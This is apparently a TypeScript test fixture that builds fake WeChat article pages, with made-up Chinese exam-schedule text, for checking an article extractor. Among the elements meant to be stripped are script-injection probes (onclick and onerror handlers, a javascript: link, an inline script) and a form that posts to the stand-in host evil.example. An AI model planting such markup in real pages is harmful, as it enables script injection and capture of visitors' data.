/*
 * Pages in the shape in which mp.weixin.qq.com sends articles: facts in scripts and `meta` elements, the text hidden
 * until a script runs, pictures whose address is in `data-src`. All of their words and numbers are made up.
 */

/** An article with everything that such a page has, and what must not come along. */
export function articlePage(picture: (name: string) => string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8">
<meta name="description" content="素描、色彩、速写安排在同一天" />
<meta name="author" content="教研组" />
<meta property="og:title" content="2026年统考时间公布 &amp; 备考提醒" />
<meta property="og:url" content="http://mp.weixin.qq.com/s?__biz=MzA5OTk5OTk5OQ==&amp;mid=2650000001&amp;idx=1&amp;sn=abcdef0123456789&amp;chksm=8888" />
<meta property="og:image" content="${picture('cover')}" />
<meta property="og:article:author" content="王老师" />
<script>window.ran = true;</script></head>
<body id="activity-detail"><div id="img-content">
<h1 class="rich_media_title" id="activity-name">
  2026年统考时间公布 &amp; 备考提醒
</h1>
<div id="meta_content"><span id="js_author_name">王老师</span><a id="js_name"> 艺考观察 </a>
<em id="publish_time"></em></div>
<div class="rich_media_content" id="js_content" style="visibility: hidden; opacity: 0;">
<section style="padding: 10px; background-image: url(&quot;${picture('behind')}&quot;);"><p style="color: rgb(192, 0, 0);" onclick="alert(1)">三科同一天</p></section>
<p><img class="rich_pages" data-src="${picture('first')}" data-w="640" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="alert(2)"></p>
<p><img data-src="${picture('counter')}" data-w="1" width="1" height="1"></p>
<p><a href="javascript:alert(3)">点我</a></p>
<form action="https://evil.example/take"><input name="id"><button>提交</button></form>
<iframe class="video_iframe" data-src="https://mp.weixin.qq.com/mp/readtemplate?t=pages/video"></iframe>
<mp-common-profile data-nickname="艺考观察"></mp-common-profile>
<p><img data-src="${picture('second')}" data-w="640"></p>
<script>alert(4)</script>
</div></div>
<script>
var ct = "1767229200"; var nickname = htmlDecode("艺考观察"); var msg_title = '2026年统考时间公布 \\x26amp; 备考提醒'.html(false);
var msg_cdn_url = "${picture('cover')}"; var createTime = '2026-01-01 09:00';
</script></body></html>`;
}

/** A post of pictures alone, whose addresses a script holds. */
export function picturePost(picture: (name: string) => string): string {
  return `<!DOCTYPE html><html><head><meta property="og:title" content="考前一图看懂" />
<meta property="og:description" content="准考证、身份证、画具" /></head><body>
<div id="js_name">艺考观察</div>
<script>window.picture_page_info_list = [{ cdn_url: '${picture('one')}', width: '1' * 1 }, { cdn_url: '${picture('two')}' }].slice(0, 20);
var createTime = '2026-02-03 18:05';</script></body></html>`;
}

/** A page that the account has deleted. */
export const deletedPage = `<!DOCTYPE html><html><body><div class="weui-msg"><div class="weui-msg__title warn">该内容已被发布者删除</div></div></body></html>`;

/** The page by which the vendor asks for a verification. */
export const verifyPage = `<!DOCTYPE html><html><body><h2>环境异常</h2><p>当前环境异常，完成验证后即可继续访问。</p></body></html>`;
